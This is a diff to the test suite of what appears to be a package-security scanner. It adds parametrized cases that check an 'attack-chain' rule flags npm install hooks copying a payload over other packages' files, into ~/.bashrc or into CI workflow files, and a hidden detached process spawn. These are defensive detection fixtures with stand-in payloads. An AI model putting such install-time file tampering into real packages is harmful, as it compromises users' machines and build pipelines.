@@ -15,7 +15,7 @@ from pratique.analysis.rules.attack_chain import (
     CERTAIN_IN_PYTHON,
     attack_chain,
 )
-from pratique.core.finding import Severity
+from pratique.core.finding import Finding, Severity
 from pratique.core.location import Location
 from pratique.core.names import Ecosystem
 from tests.analysis.inspecting import npm, of_rule, package_json, wheel
@@ -193,7 +193,9 @@ def test_parts_in_several_files_that_run_at_load_are_held() -> None:
         "parcel/c.py": "import requests\ndef get():\n    return requests.get('https://x.pratique.invalid/p').text\n",
     }
     found = of_rule(wheel(files), "attack-chain")
-    assert ["host-asked-and-code-run"] == [finding.evidence.partition(",")[0] for finding in found]
+    assert ["download-run-as-code", "host-asked-and-code-run"] == [
+        finding.evidence.partition(",")[0] for finding in found
+    ]
 
 
 def test_python_that_an_npm_package_carries_along_waits_for_nobody() -> None:
@@ -203,3 +205,61 @@ def test_python_that_an_npm_package_carries_along_waits_for_nobody() -> None:
     hook = package_json(scripts={"install": "python deps/tool.py"})
     started = code + "run()\n"
     assert of_rule(npm({"package.json": hook, "deps/tool.py": started}), "attack-chain")
+
+
+_FILES = (
+    "const fs = require('fs'), extra = require('fs-extra'), os = require('os'), path = require('path');\n"
+)
+
+
+def installing(code: str) -> list[Finding]:
+    """What is found in a package whose install script does something with its own `payload.js`."""
+    hook = package_json(scripts={"postinstall": "node install.js"})
+    files = {"package.json": hook, "payload.js": "1;", "install.js": _FILES + code}
+    return of_rule(npm(files), "attack-chain")
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "fs.copyFileSync(__dirname + '/payload.js', '../other/index.js')",
+        "fs.promises.rename('payload.js', path.join('..', '@scope', 'other', 'lib', 'index.cjs'))",
+        "fs.copyFileSync(__dirname + '/payload.js', 'node_modules/other/index.js')",
+        "extra.moveSync(__dirname + '/payload.js', '../../node_modules/other/index.js')",
+        "fs.symlinkSync(__dirname + '/payload.js', 'node_modules/other/index.js')",
+        "fs.copyFileSync(__dirname + '/payload.sh', path.join(os.homedir(), '.bashrc'))",
+        "fs.cpSync('payload.sh', process.env.HOME + '/.bashrc')",
+        "extra.copySync('payload.yml', '../../.github/workflows/lint.yml')",
+        "extra.outputFileSync('../other/index.js', '1;')",
+    ],
+)
+def test_what_is_copied_or_moved_among_the_files_of_others_is_held(code: str) -> None:
+    assert installing(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "fs.copyFileSync(__dirname + '/payload.js', __dirname + '/dist/index.js')",
+        "fs.renameSync('payload.js', './dist/index.js')",
+        "fs.copyFileSync(__dirname + '/payload.js', process.argv[2] + '/index.js')",
+        "exports.put = folder => fs.copyFileSync(__dirname + '/payload.js', path.join(folder, 'index.js'))",
+        "fs.copyFileSync('node_modules/other/index.js', 'dist/other.js')",
+        "fs.copyFileSync('../other/index.js', 'dist/other.js')",
+        "fs.symlinkSync(__dirname, '../../node_modules/sample')",
+        "fs.copyFileSync('data.json', '../assets/data.json')",
+    ],
+)
+def test_what_is_copied_into_a_folder_of_its_own_or_of_its_caller_is_quiet(code: str) -> None:
+    assert [] == installing(code)
+
+
+_UNSEEN = "require('child_process').spawn('tool', [], { detached: true, stdio: 'ignore' }).unref();"
+
+
+def test_a_program_that_another_file_asks_for_unseen_is_not_certain_as_one_that_a_file_starts_by_itself() -> (
+    None
+):
+    called = {"index.js": "require('./lib').find();\n", "lib.js": f"exports.find = () => {{ {_UNSEEN} }};\n"}
+    assert of_rule(npm({"index.js": _UNSEEN}), "attack-chain")
+    assert [] == of_rule(npm(called), "attack-chain")
